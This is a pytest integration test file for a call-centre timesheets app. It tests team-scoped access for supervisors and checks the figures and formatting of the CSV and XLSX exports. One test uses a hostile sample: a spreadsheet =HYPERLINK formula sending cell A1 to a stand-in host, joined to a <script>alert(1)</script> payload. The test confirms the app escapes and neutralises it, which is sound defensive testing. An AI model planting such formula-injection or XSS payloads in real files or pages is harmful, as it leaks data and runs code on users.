"""The timesheets page, its CSV and XLSX files, and one agent's page: what each role sees
(a supervisor of team A never team B: 403), the figures against a day worked out by hand,
the files read back (csv, openpyxl) with their durations as h:mm, in Italian and English.
Nothing depends on today: every range is given, and the default one is read in a
travelled clock."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa
import time_machine
from openpyxl import load_workbook

from app.security import Role
from app.users.teams import create_team
from app.workday.machine import AgentState as S
from app.workday.machine import Moment as M
from app.workday.models import PauseReason, StatePeriod
from tests import factories
from tests.conftest import csrf_token
from tests.integration.test_injection_flow import assert_inert_cell
from tests.integration.test_injection_worked import assert_inert_workbook

ROME = ZoneInfo("Europe/Rome")
DAY = date(2026, 3, 3)  # a Tuesday, winter time
NEXT = DAY + timedelta(days=1)
SPAN = {"start": DAY.isoformat(), "end": NEXT.isoformat()}


def rome(day: date, hh: int, mm: int = 0) -> datetime:
    return datetime(day.year, day.month, day.day, hh, mm, tzinfo=ROME).astimezone(UTC)


def worked(session, agent, steps):
    """The agent's log: each (start, state, reason code) ends at the next one."""
    reasons = {r.code: r.id for r in session.scalars(sa.select(PauseReason))}
    for (start, state, code), following in zip(steps, [*steps[1:], None], strict=True):
        end = following[0] if following else None
        session.add(StatePeriod(agent_id=agent.id, state=state, moment=M.SIGN_IN,
                                pause_reason_id=reasons.get(code), started_at=start,
                                ended_at=end, seen_at=end or start))  # fmt: skip
    session.flush()


@pytest.fixture
def world(session):
    """Team A (Milano): Anna worked 8:00-17:00 on the 3rd, with a 20-minute break and a
    10-minute call qualified, and 23:00-01:00 across midnight; team B (Napoli): Bruno
    worked 9:00-12:00 on the 4th. Their supervisors, staff, an administrator."""
    a = create_team(session, code="CC-A", name="Call center Milano")
    b = create_team(session, code="CC-B", name="Call center Napoli")
    mk = factories.user
    people = {
        "anna": mk(session, Role.AGENT, username="anna", full_name="Anna Alfa", team=a),
        "bruno": mk(session, Role.AGENT, username="bruno", full_name="Bruno Beta", team=b),
        "sup_a": mk(session, Role.SUPERVISOR, username="sup-a", team=a),
        "sup_b": mk(session, Role.SUPERVISOR, username="sup-b", team=b),
        "staff": mk(session, Role.STAFF, username="staff"),
        "admin": mk(session, Role.ADMIN, username="admin"),
        "sup_all": mk(session, Role.SUPERVISOR, username="sup-all"),  # of no team
    }
    worked(session, people["anna"], [
        (rome(DAY, 8), S.READY, None), (rome(DAY, 9), S.DIALLING, None),
        (rome(DAY, 9, 1), S.IN_CALL, None), (rome(DAY, 9, 10), S.WRAP_UP, None),
        (rome(DAY, 9, 11), S.READY, None), (rome(DAY, 10), S.PAUSED, "break"),
        (rome(DAY, 10, 20), S.READY, None), (rome(DAY, 17), S.SIGNED_OUT, None),
        (rome(DAY, 23), S.READY, None), (rome(NEXT, 1), S.SIGNED_OUT, None),
    ])  # fmt: skip
    worked(session, people["bruno"], [(rome(NEXT, 9), S.READY, None),
                                      (rome(NEXT, 12), S.SIGNED_OUT, None)])  # fmt: skip
    campaign = factories.campaign(session)
    entry = factories.queue_entry(session, campaign)
    call = factories.call(session, entry, people["anna"], "qualified", rome(DAY, 8, 59),
                          rome(DAY, 9, 11))  # fmt: skip
    call.final = True
    session.flush()
    return people


def sign_in(client, username):
    token = csrf_token(client, "/login")
    client.post("/login", data={"username": username, "password": factories.PASSWORD,
                                "csrf_token": token})  # fmt: skip


def text(response):
    assert response.status_code == 200, response.status_code
    return response.get_data(as_text=True)


def test_a_supervisor_sees_their_team_only(client, world):
    sign_in(client, "sup-a")
    page = text(client.get("/timesheets/", query_string=SPAN))
    assert "Anna Alfa" in page and "Bruno Beta" not in page
    assert "Call center Napoli" not in page  # not even in the team list
    b = world["bruno"].team_id
    assert client.get("/timesheets/", query_string={**SPAN, "team": b}).status_code == 403
    for kind in ("csv", "xlsx"):
        refused = client.get(f"/timesheets/timesheet.{kind}", query_string={**SPAN, "team": b})
        assert refused.status_code == 403
        mine = client.get(f"/timesheets/timesheet.{kind}", query_string=SPAN)
        assert mine.status_code == 200 and b"Bruno" not in mine.data
    assert client.get(f"/timesheets/agents/{world['bruno'].id}").status_code == 403
    assert client.get(f"/timesheets/agents/{world['anna'].id}").status_code == 200


@pytest.mark.parametrize("who", ["staff", "admin", "sup-all"])
def test_staff_administrators_and_supervisors_of_no_team_see_every_team(client, world, who):
    sign_in(client, who)
    page = text(client.get("/timesheets/", query_string=SPAN))
    assert "Anna Alfa" in page and "Bruno Beta" in page
    assert page.index("Call center Milano") < page.index("Call center Napoli")
    only_b = text(client.get("/timesheets/", query_string={**SPAN, "team": world["bruno"].team_id}))
    assert "Bruno Beta" in only_b and "Anna Alfa" not in only_b


def test_agents_may_not_open_it(client, world):
    sign_in(client, "anna")
    assert client.get("/timesheets/", query_string=SPAN).status_code == 403
    assert client.get(f"/timesheets/agents/{world['anna'].id}").status_code == 403


def test_a_wrong_range_is_said(client, world):
    sign_in(client, "staff")
    backwards = client.get("/timesheets/", query_string={"start": "2026-03-05",
                                                         "end": "2026-03-01"})  # fmt: skip
    assert backwards.status_code == 400
    assert "L&#39;ultimo giorno viene prima del primo." in backwards.get_data(as_text=True)
    too_long = client.get("/timesheets/", query_string={"start": "2026-01-01", "end": "2026-03-31"})
    assert too_long.status_code == 400 and "al massimo 62 giorni" in too_long.get_data(as_text=True)
    assert client.get("/timesheets/timesheet.csv", query_string={"start": "x"}).status_code == 400
    assert client.get("/timesheets/", query_string={"team": "x"}).status_code == 400


def test_the_default_range_is_this_month(client, world):
    with time_machine.travel(rome(date(2026, 3, 20), 12), tick=False):
        sign_in(client, "staff")
        page = text(client.get("/timesheets/"))
    assert 'value="2026-03-01"' in page and 'value="2026-03-20"' in page
    assert "Anna Alfa" in page


def csv_rows(response):
    assert response.mimetype == "text/csv"
    body = response.data.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:]), delimiter=";"))


def test_the_csv_for_italian_excel(client, world):
    sign_in(client, "staff")
    rows = csv_rows(client.get("/timesheets/timesheet.csv", query_string=SPAN))
    header = rows[0]
    assert header[:11] == ["Team", "Operatore", "Giorno", "Prima chiamata",
                           "Ultima chiamata", "Connesso", "Pronto", "In composizione",
                           "Conversazione", "Post-chiamata", "In pausa"]  # fmt: skip
    assert header[11] == "In pausa: Pausa"
    col = {name: i for i, name in enumerate(header)}
    anna = [r for r in rows if r[1] == "Anna Alfa"]
    assert [r[2] for r in anna] == ["2026-03-03", "2026-03-04"]
    day = anna[0]
    # 8:00-17:00 and 23:00-24:00: ten hours; talk 9 minutes; one call qualified.
    assert day[col["Connesso"]] == "'10:00"
    assert day[col["Conversazione"]] == "'0:09"
    assert day[col["In pausa"]] == "'0:20" == day[col["In pausa: Pausa"]]
    assert (day[col["Prima chiamata"]], day[col["Ultima chiamata"]]) == (
        "2026-03-03 08:59",
        "2026-03-03 09:11",
    )
    assert (day[col["Chiamate"]], day[col["Qualificato"]]) == ("1", "1")
    assert day[col["Chiamate per ora connessa"]] == "0,10"
    assert day[col["Ore connesse (decimali)"]] == "10,00"
    assert anna[1][col["Connesso"]] == "'1:00"  # the hour after midnight
    totals = [r for r in rows if r[1] == "Totale"]
    assert [(r[0], r[col["Connesso"]]) for r in totals] == [
        ("Call center Milano", "'11:00"), ("Call center Napoli", "'3:00"),
        ("Tutti i team", "'14:00")]  # fmt: skip
    for row in rows:  # nothing a spreadsheet would run
        assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row)


def test_the_xlsx_with_hours_as_durations(client, world):
    sign_in(client, "sup-a")
    response = client.get("/timesheets/timesheet.xlsx", query_string=SPAN)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    col = {name: i for i, name in enumerate(header)}
    day = next(r for r in rows if r[1].value == "Anna Alfa")
    signed_in = day[col["Connesso"]]
    # A duration: openpyxl reads a number formatted [h]:mm back as one.
    assert signed_in.value == timedelta(hours=10) and signed_in.number_format == "[h]:mm"
    assert day[col["Giorno"]].value == datetime(2026, 3, 3)
    assert day[col["Chiamate per ora connessa"]].value == pytest.approx(0.1)
    assert [r[0].value for r in rows if r[1].value == "Totale"] == [
        "Call center Milano",
        "Tutti i team",
    ]
    assert all(c.data_type != "f" for row in rows for c in row)


def test_in_english(client, world):
    sign_in(client, "staff")
    token = csrf_token(client, "/timesheets/")
    client.post("/language", data={"lang": "en", "csrf_token": token})
    page = text(client.get("/timesheets/", query_string=SPAN))
    assert "Timesheets" in page and "Calls per signed-in hour" in page
    rows = csv_rows(client.get("/timesheets/timesheet.csv", query_string=SPAN))
    assert rows[0][:3] == ["Team", "Agent", "Day"] and "Paused: Break" in rows[0]
    assert rows[1][rows[0].index("Calls per signed-in hour")] == "0.10"


def test_one_agent_s_page(client, world):
    sign_in(client, "sup-a")
    page = text(client.get(f"/timesheets/agents/{world['anna'].id}", query_string=SPAN))
    assert 'data-testid="signed-in">11:00<' in page
    assert 'data-testid="talk">0:09<' in page
    assert "Pausa" in page and "Qualificato" in page


HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"ok")<script>alert(1)</script>'


def test_a_hostile_name_is_shown_and_filed_inert(client, session, world):
    world["anna"].full_name = HOSTILE
    world["anna"].team.name = "+Call center -1"
    session.flush()
    sign_in(client, "staff")
    page = text(client.get("/timesheets/", query_string=SPAN))
    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)" in page
    rows = csv_rows(client.get("/timesheets/timesheet.csv", query_string=SPAN))
    assert any(r[1] == "'" + HOSTILE for r in rows) and any(
        r[0] == "'+Call center -1" for r in rows
    )
    for row in rows:
        for cell in row:
            assert_inert_cell(cell)
    book = load_workbook(
        io.BytesIO(client.get("/timesheets/timesheet.xlsx", query_string=SPAN).data)
    )
    assert_inert_workbook(book)
    assert any(c.value == HOSTILE for row in book.active.iter_rows() for c in row)


def test_a_day_before_the_log_has_calls_but_no_hourly_figure(client, session, world):
    before = DAY - timedelta(days=1)
    entry = factories.queue_entry(session, factories.campaign(session))
    factories.call(session, entry, world["anna"], "busy", rome(before, 10), rome(before, 10, 2))
    sign_in(client, "staff")
    span = {"start": before.isoformat(), "end": DAY.isoformat()}
    rows = csv_rows(client.get("/timesheets/timesheet.csv", query_string=span))
    col = {name: i for i, name in enumerate(rows[0])}
    old, logged = (r for r in rows if r[1] == "Anna Alfa")
    assert (old[col["Giorno"]], old[col["Chiamate"]], old[col["Connesso"]]) == (
        before.isoformat(), "1", "'0:00")  # fmt: skip
    assert old[col["Chiamate per ora connessa"]] == ""
    total = next(r for r in rows if r[0] == "Call center Milano" and r[1] == "Totale")
    # Two calls in all; the hourly figure counts the logged day's one call over 10 hours.
    assert total[col["Chiamate"]] == "2" and total[col["Chiamate per ora connessa"]] == "0,10"
    assert logged[col["Chiamate per ora connessa"]] == "0,10"
